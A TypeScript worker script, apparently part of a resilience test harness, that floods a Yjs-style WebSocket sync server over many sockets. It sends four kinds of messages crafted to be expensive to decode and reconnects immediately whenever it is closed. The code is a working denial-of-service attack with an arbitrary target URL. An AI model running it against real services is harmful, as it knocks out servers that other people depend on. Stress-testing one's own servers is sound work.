// One address that sends what takes long to decode, over as many sockets as it is told, until it is told to stop.
import * as encoding from 'lib0/encoding'
import { WebSocket } from 'ws'

export type Attack = 'vectors' | 'structs' | 'values' | 'deletions'

export interface AttackJob {
  readonly attack: Attack
  readonly url: string
  readonly sockets: number
}

const MESSAGE_BYTES = 1024 * 1024
/** Linux gives all of 127/8 to the loopback: so the limits of an address are not those of who measures. */
const ADDRESS = '127.0.0.2'

/** The body of a sync message, as large as the limits allow. */
const BODIES: Readonly<Record<Attack, (client: number) => { step: number; body: Uint8Array }>> = {
  /** Step 1 with 16,000 clients. */
  vectors: () => ({
    step: 0,
    body: encoding.encode((encoder) => {
      encoding.writeVarUint(encoder, 16_000)
      for (let i = 0; i < 16_000; i++) {
        encoding.writeVarUint(encoder, 20_000 + i)
        encoding.writeVarUint(encoder, 1)
      }
    }),
  }),
  /** Half a million collected structs of two bytes. */
  structs: (client) => ({
    step: 2,
    body: encoding.encode((encoder) => {
      const count = MESSAGE_BYTES / 2 - 20
      for (const n of [1, count, client, 0]) encoding.writeVarUint(encoder, n)
      for (let i = 0; i < count; i++) encoding.writeUint16(encoder, 0x0100)
      encoding.writeVarUint(encoder, 0)
    }),
  }),
  /** One value with half a million empty objects in it. */
  values: (client) => ({
    step: 2,
    body: encoding.encode((encoder) => {
      for (const n of [1, 1, client, 0]) encoding.writeVarUint(encoder, n)
      encoding.writeUint8(encoder, 8)
      encoding.writeVarUint(encoder, 1)
      encoding.writeVarString(encoder, 'meta')
      encoding.writeVarUint(encoder, 1)
      encoding.writeAny(
        encoder,
        Array.from({ length: MESSAGE_BYTES / 2 - 40 }, () => ({})),
      )
      encoding.writeVarUint(encoder, 0)
    }),
  }),
  /** Half a million deleted ranges. */
  deletions: (client) => ({
    step: 2,
    body: encoding.encode((encoder) => {
      const count = MESSAGE_BYTES / 2 - 20
      for (const n of [0, 1, client, count]) encoding.writeVarUint(encoder, n)
      for (let i = 0; i < count; i++) encoding.writeUint16(encoder, 0x0101)
    }),
  }),
}

function message(attack: Attack, client: number): Uint8Array {
  const { step, body } = BODIES[attack](client)
  return encoding.encode((encoder) => {
    encoding.writeVarUint(encoder, 0)
    encoding.writeVarUint(encoder, step)
    encoding.writeVarUint8Array(encoder, body)
  })
}

let sent = 0
const codes: Record<number, number> = {}
let running = true

process.on('message', (told: AttackJob | 'stop') => {
  if (told === 'stop') {
    running = false
    process.send?.({ sent, codes })
    return
  }
  for (let i = 0; i < told.sockets; i++) keepOn(told, message(told.attack, 1000 + i))
})

/** Sends without pause; when it is closed, comes back at once and goes on. */
function keepOn(job: AttackJob, frame: Uint8Array): void {
  if (!running) return
  const ws = new WebSocket(job.url, { perMessageDeflate: false, localAddress: ADDRESS })
  const push = () => {
    if (!running || ws.readyState !== WebSocket.OPEN) return
    sent++
    ws.send(frame, () => setImmediate(push))
  }
  ws.on('open', push)
  ws.on('error', () => {}) // a close follows
  ws.on('close', (code) => {
    codes[code] = (codes[code] ?? 0) + 1
    setTimeout(() => keepOn(job, frame), 100)
  })
}
